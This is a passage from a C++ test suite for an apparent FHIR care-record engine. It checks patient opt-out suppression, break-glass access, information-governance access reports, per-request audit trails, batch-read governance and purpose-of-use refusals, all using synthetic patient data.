  auto report = get_until(engine->http_port(), "/admin/ig/reports/patient-access?patient=Patient/" + patient, ig,
                          [](const HttpResult& h) { return h.body.find("consent feed:") != std::string::npos; });
  EXPECT_NE(report.body.find("consent feed:gp-a81001"), std::string::npos) << report.body;
  auto refused = get_until(engine->http_port(), "/fhir/Encounter?patient=Patient/" + patient, trust,
                           [](const HttpResult& h) { return h.status == 403; });
  EXPECT_EQ(refused.status, 403) << refused.body;
  EXPECT_NE(refused.body.find("asked that their record not be shared"), std::string::npos) << refused.body;
  // No read path lets the dissenting patient's record out: by patient, by id, its versions, by the
  // visit number, the whole record; nor do the refusals or totals say what is there.
  auto search = http_get(engine->http_port(), "/fhir/Encounter?identifier=VISIT77", trust);
  EXPECT_EQ(total_of(search), 0) << search.body;
  EXPECT_NE(search.body.find("\"suppressed\""), std::string::npos) << search.body;
  for (const std::string& path :
       {"/fhir/Encounter?patient=Patient/" + patient, std::string("/fhir/Encounter?identifier=VISIT77"),
        "/fhir/Patient/" + patient + "/$everything", "/fhir/Condition?patient=Patient/" + patient,
        "/fhir/Consent?patient=Patient/" + patient, "/fhir/Encounter/" + encounter,
        "/fhir/Encounter/" + encounter + "/_history", "/fhir/Encounter/" + encounter + "/_history/1"}) {
    auto r = http_get(engine->http_port(), path, trust);
    EXPECT_TRUE(r.status == 403 || total_of(r) == 0) << path << ": " << r.body;
    for (const char* leak : {"in-progress", "\"value\":\"VISIT77\"", "WD7", "SCR-OPT-OUT-1"})
      EXPECT_EQ(r.body.find(leak), std::string::npos) << leak << " leaked by " << path << ": " << r.body;
  }
}

TEST_F(GovernanceTest, TheIgOfficerReportsEveryAccessToAPatientAndUnusualAccess) {
  ASSERT_FALSE(patient.empty());
  ASSERT_EQ(total_of(encounters(trust)), 1);
  ASSERT_EQ(encounters(other).status, 403);
  ASSERT_EQ(record_access(engine->http_port(), other, patient, "break-glass", "Found collapsed"), 200);
  ASSERT_EQ(total_of(encounters(other)), 1);
  // Every access to this patient, for a subject access request: who, when, why, what, the outcome.
  const std::string report = "/admin/ig/reports/patient-access?patient=Patient/" + patient;
  EXPECT_EQ(http_get(engine->http_port(), report, trust).status, 403) << "the IG officer's only";
  auto r = http_get(engine->http_port(), report, ig);
  ASSERT_EQ(r.status, 200) << r.body;
  auto items = json(r.body);
  ASSERT_TRUE(items.IsObject()) << r.body;
  int trust_reads = 0, refusals = 0, break_glass_reads = 0;
  for (auto& row : items["items"].GetArray()) {
    const std::string user = row["user"].GetString(), outcome = row["outcome"].GetString(), basis = row["basis"].GetString();
    if (user == "dr.rbt" && outcome == "disclosed" && basis == "open-encounter") ++trust_reads;
    if (user == "dr.rjr" && outcome == "denied") ++refusals;
    if (user == "dr.rjr" && outcome == "disclosed" && basis == "access:break-glass") ++break_glass_reads;
  }
  EXPECT_GE(trust_reads, 2) << r.body;
  EXPECT_EQ(refusals, 1) << r.body;
  EXPECT_EQ(break_glass_reads, 1) << r.body;
  EXPECT_NE(r.body.find("Found collapsed"), std::string::npos) << "the reason recorded: " << r.body;
  auto csv = http_get(engine->http_port(), report + "&_format=csv", ig);
  EXPECT_EQ(csv.content_type.find("text/csv"), 0u);
  EXPECT_EQ(csv.body.rfind("time,user,role,org,purpose,action,outcome,basis,disclosed,request,audit\r\n", 0), 0u) << csv.body;
  EXPECT_NE(csv.body.find(",dr.rjr,ae-clinician,RJR,"), std::string::npos) << csv.body;
  EXPECT_EQ(http_get(engine->http_port(), "/admin/ig/reports/patient-access?patient=Patient/0123456789abcdef0123456789abcdef", ig).status, 404);
  // Unusual access: with thresholds of one, the user who broke the glass is listed, and why.
  auto unusual = http_get(engine->http_port(), "/admin/ig/reports/unusual-access?patients=5&recorded=1&refused=5", ig);
  ASSERT_EQ(unusual.status, 200) << unusual.body;
  auto u = json(unusual.body);
  ASSERT_EQ(u["items"].Size(), 1u) << unusual.body;
  EXPECT_STREQ(u["items"][0]["user"].GetString(), "dr.rjr");
  EXPECT_EQ(u["items"][0]["by_recorded_access"].GetInt(), 1);
  EXPECT_EQ(u["items"][0]["break_glass"].GetInt(), 1);
  EXPECT_NE(std::string(u["items"][0]["why"].GetString()).find("break-glass"), std::string::npos);
  EXPECT_EQ(json(http_get(engine->http_port(), "/admin/ig/reports/unusual-access", ig).body)["items"].Size(), 0u)
      << "nobody passes the default thresholds here";
  EXPECT_EQ(http_get(engine->http_port(), "/admin/ig/reports/unusual-access?patients=0", ig).status, 400);
  EXPECT_EQ(http_get(engine->http_port(), "/admin/ig/reports/unusual-access", other).status, 403);
  // The reports are on the trail too.
  auto trail = http_get(engine->http_port(), "/fhir/AuditEvent?agent=ig.officer&subtype=report", ig);
  EXPECT_NE(trail.body.find("report:patient-access"), std::string::npos) << trail.body;
  EXPECT_NE(trail.body.find("report:unusual-access"), std::string::npos) << trail.body;
}

TEST_F(GovernanceTest, EveryRequestLeavesExactlyTheExpectedAuditEvents) {
  ASSERT_FALSE(patient.empty());
  const std::string encounter = json(encounters(trust).body)["entry"][0]["resource"]["id"].GetString();
  const std::string reader = issue("ae-clinician", "seq.rbt", "RBT");
  const std::string stranger = issue("ae-clinician", "seq.rjr", "RJR");
  const int port = engine->http_port();
  // One reader's requests, each with the status it gets.
  EXPECT_EQ(http_get(port, "/fhir/Patient?identifier=9991234578", reader).status, 200);
  EXPECT_EQ(http_get(port, "/fhir/Encounter?patient=Patient/" + patient, reader).status, 200);
  EXPECT_EQ(http_get(port, "/fhir/Encounter/" + encounter, reader).status, 200);
  EXPECT_EQ(http_get(port, "/fhir/Encounter/" + encounter + "/_history/1", reader).status, 200);
  EXPECT_EQ(http_get(port, "/fhir/Encounter/" + encounter + "/_history", reader).status, 200);
  EXPECT_EQ(http_get(port, "/fhir/DiagnosticReport?patient=Patient/" + patient, reader).status, 200);
  EXPECT_EQ(http_get(port, "/fhir/Patient/" + patient + "/$everything", reader).status, 200);
  EXPECT_EQ(http_get(port, "/admin/worklist", reader).status, 403);
  EXPECT_EQ(http_get(port, "/fhir/AuditEvent", reader).status, 403);
  EXPECT_EQ(record_access(port, reader, patient), 200);
  EXPECT_EQ(http_get(port, "/fhir/Encounter?patient=Patient/" + patient, stranger).status, 403);
  EXPECT_EQ(record_access(port, stranger, patient, "break-glass"), 400);  // no reason: refused before any decision
  EXPECT_EQ(http_get(port, "/fhir/Encounter?patient=Patient/" + patient, "not-a-token").status, 401);

  const std::vector<std::string> expected{"search:disclosed", "search:disclosed",  "read:disclosed",
                                          "vread:disclosed",  "history:disclosed", "search:nothing-found",
                                          "everything:disclosed", "worklist:denied", "audit-search:denied",
                                          "access:permitted"};
  EXPECT_EQ(trail_of("seq.rbt"), expected);
  EXPECT_EQ(trail_of("seq.rjr"), std::vector<std::string>{"search:denied"});
}

// A viewer's batch over a real socket: each entry governed and audited as if sent alone (in entry
// order on the trail), a stranger's entry refused with nothing of the patient in the reply.
TEST_F(GovernanceTest, ABatchOfReadsIsGovernedAndAuditedEntryByEntry) {
  ASSERT_FALSE(patient.empty());
  const std::string reader = issue("ae-clinician", "batch.rbt", "RBT");
  const std::string stranger = issue("ae-clinician", "batch.rjr", "RJR");
  const int port = engine->http_port();
  auto batch_of = [&](const std::vector<std::string>& urls) {
    std::string body = R"({"resourceType": "Bundle", "type": "batch", "entry": [)";
    for (size_t i = 0; i < urls.size(); ++i)
      body += (i ? ", " : "") + std::string(R"({"request": {"method": "GET", "url": ")") + urls[i] + R"("}})";
    return body + "]}";
  };
  const auto summary = http_request(
      port, "POST", "/fhir", reader,
      batch_of({"Encounter?patient=Patient/" + patient, "Patient/" + patient, "DiagnosticReport?patient=" + patient}));
  ASSERT_EQ(summary.status, 200) << summary.body;
  auto b = json(summary.body);
  ASSERT_STREQ(b["type"].GetString(), "batch-response") << summary.body;
  ASSERT_EQ(b["entry"].Size(), 3u);
  EXPECT_STREQ(b["entry"][0]["response"]["status"].GetString(), "200 OK");
  EXPECT_EQ(b["entry"][0]["resource"]["total"].GetInt(), 1);
  EXPECT_STREQ(b["entry"][1]["resource"]["name"][0]["family"].GetString(), "HARGREAVES");
  EXPECT_EQ(b["entry"][2]["resource"]["total"].GetInt(), 0);

  const auto refused = http_request(port, "POST", "/fhir", stranger,
                                    batch_of({"Encounter?patient=Patient/" + patient, "Patient/" + patient}));
  ASSERT_EQ(refused.status, 200) << refused.body;
  auto r = json(refused.body);
  EXPECT_STREQ(r["entry"][0]["response"]["status"].GetString(), "403 Forbidden");
  EXPECT_FALSE(r["entry"][0].HasMember("resource"));
  EXPECT_STREQ(r["entry"][1]["response"]["status"].GetString(), "200 OK") << "demographics confirm identity";

  EXPECT_EQ(trail_of("batch.rbt"),
            (std::vector<std::string>{"search:disclosed", "read:disclosed", "search:nothing-found"}));
  EXPECT_EQ(trail_of("batch.rjr"), (std::vector<std::string>{"search:denied", "read:disclosed"}));
}

TEST_F(GovernanceTest, PatientDataAreDisclosedForDirectCareOnly) {
  ASSERT_FALSE(patient.empty());
  std::string research = run_carerecord({"token", "--role", "ae-clinician", "--user", "dr.research", "--org", "RBT",
                                         "--purpose", "RESEARCH", "--data-dir", dir.path + "/data"});
  research.erase(research.find_last_not_of("\r\n") + 1);
  for (const std::string& path : {std::string("/fhir/Patient?identifier=9991234578"), "/fhir/Encounter?patient=Patient/" + patient,
                                  "/fhir/Patient/" + patient + "/$everything"}) {
    auto r = http_get(engine->http_port(), path, research);
    EXPECT_EQ(r.status, 403) << path << ": " << r.body;
    EXPECT_NE(r.body.find("direct care"), std::string::npos) << r.body;
    EXPECT_EQ(r.body.find("HARGREAVES"), std::string::npos) << r.body;
  }
  EXPECT_EQ(total_of(encounters(trust)), 1) << "the same role for direct care reads";
  auto trail = http_get(engine->http_port(), "/fhir/AuditEvent?agent=dr.research&outcome=denied", ig);
  EXPECT_EQ(total_of(trail), 3) << trail.body;
  EXPECT_NE(trail.body.find("RESEARCH"), std::string::npos) << trail.body;
}

TEST(GovernancePolicy, APolicyThatLimitsRolesBySourceNeedsEveryFeedsTypeAtStartUp) {
  TempDir dir;
  std::ofstream(dir.path + "/policy.json") << R"({"name": "by-source",
      "roles": {"social-worker": {"clinical": true, "resource_types": "*", "sources": ["social-care"]}},
      "access": {"permission-to-view": 60, "self-declared": 60, "break-glass": 30}})";
  std::ofstream(dir.path + "/c.json") << R"({"development": true, "policy_file": ")" + dir.path + R"(/policy.json",
      "feeds": [{"name": "pas", "sending_facilities": ["*"]},
                {"name": "council", "type": "extract", "owner_ods": "CHE01", "mapping": "social-care-episodes",
                 "organisation_type": "social-care"}]})";
  auto r = run_serve_expecting_exit({"--config", dir.path + "/c.json", "--data-dir", dir.path + "/data"});
  EXPECT_EQ(r.status, 1) << r.err;
  EXPECT_NE(r.err.find("feed pas has no organisation_type"), std::string::npos) << r.err;
}

}  // namespace
}  // namespace cc::test
